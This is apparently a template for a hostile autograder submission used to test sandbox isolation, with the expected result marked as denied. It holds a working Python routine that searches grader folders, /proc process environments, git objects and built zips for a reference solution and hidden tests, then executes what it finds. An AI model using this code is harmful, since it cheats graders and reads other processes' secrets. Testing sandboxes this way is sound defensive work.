# where: end
# base: stub
# costs: its file
# evidence: DENIED
# -- hostile: read_reference: looks everywhere for the reference {{file}} of {{assignment}} and its
#    hidden checks, and runs the reference as its own code if found. Routes: the grader
#    package's folder, GRADER_HOME, every folder above the work folder, the Gradescope
#    layout, /proc (every process's cwd, root and environment), the course's git objects,
#    its built autograder zips and its test fixtures. A reference file is told by its
#    solution markers. What it read is printed first (a leak would show in the results),
#    then what it was denied.
def _hostile_steal():
    import glob as _glob
    import json as _json
    import os as _os
    import zipfile as _zipfile
    import zlib as _zlib

    # Split so that no file matches merely by holding this snippet.
    marker = "# BEGIN " + "SOLUTION"
    own = _os.path.realpath(__file__)
    report = []

    def read(path):
        try:
            with open(path, "rb") as stream:
                data = stream.read(1 << 20)
        except OSError as error:
            report.append(f"DENIED {path}: {error.strerror}")
            return None
        report.append(f"READ {path}: {data[:100]!r}")
        return data.decode("utf-8", "replace")

    def listdir(path):
        try:
            names = _os.listdir(path)
        except OSError as error:
            report.append(f"DENIED listing {path}: {error.strerror}")
            return []
        report.append(f"LISTED {path}: {sorted(names)[:10]}")
        return names

    def roots():
        found = []
        try:
            import grader
            found.append(_os.path.dirname(_os.path.dirname(_os.path.abspath(grader.__file__))))
        except ImportError as error:
            report.append(f"no grader package: {error}")
        if _os.environ.get("GRADER_HOME"):
            found.append(_os.environ["GRADER_HOME"])
        folder = _os.getcwd()
        while True:
            found.append(folder)
            if folder == _os.path.dirname(folder):
                break
            folder = _os.path.dirname(folder)
        found += ["/autograder/source", "/autograder"]
        for pid in sorted({str(_os.getppid()), "1", *[p for p in listdir("/proc") if p.isdigit()]})[:50]:
            found += [f"/proc/{pid}/cwd", f"/proc/{pid}/root/work/main"]
            for item in (read(f"/proc/{pid}/environ") or "").split("\0"):
                if item.startswith("GRADER_HOME="):
                    found.append(item.split("=", 1)[1])
        return list(dict.fromkeys(found))

    def candidates():
        for root in roots():
            listdir(root)
            for name in ("{{file}}", "tests_hidden.py"):
                path = _os.path.join(root, "solutions", "{{assignment}}", name)
                text = read(path)
                if text:
                    yield path, text
            for path in _glob.glob(_os.path.join(root, "solutions", "*", "{{file}}"))[:20]:
                text = read(path)
                if text:
                    yield path, text
            for path in _glob.glob(_os.path.join(root, ".git", "objects", "??", "*"))[:2000]:
                try:
                    with open(path, "rb") as stream:
                        text = _zlib.decompress(stream.read()).decode("utf-8", "replace").split("\0", 1)[-1]
                except (OSError, _zlib.error) as error:
                    report.append(f"DENIED {path}: {error}")
                    continue
                yield path, text
            for path in _glob.glob(_os.path.join(root, "dist", "*.zip")):
                try:
                    with _zipfile.ZipFile(path) as archive:
                        for name in archive.namelist():
                            if name.endswith(".py"):
                                yield f"{path}!{name}", archive.read(name).decode("utf-8", "replace")
                except (OSError, _zipfile.BadZipFile) as error:
                    report.append(f"DENIED {path}: {error}")
            for path in _glob.glob(_os.path.join(root, "tests", "submissions", "**", "{{file}}"), recursive=True):
                text = read(path)
                if text:
                    yield path, text

    found = None
    for path, text in candidates():
        if marker in text and _os.path.realpath(path.split("!")[0]) != own:
            report.append(f"FOUND the reference in {path}")
            found = text
            break
    read_lines = [line for line in report if not line.startswith("DENIED")]
    denied = [line for line in report if line.startswith("DENIED")]
    print(_json.dumps({"read": read_lines, "denied": denied}, indent=0))
    if found is not None:
        exec(compile(found, "{{file}}", "exec"), globals())


_hostile_steal()
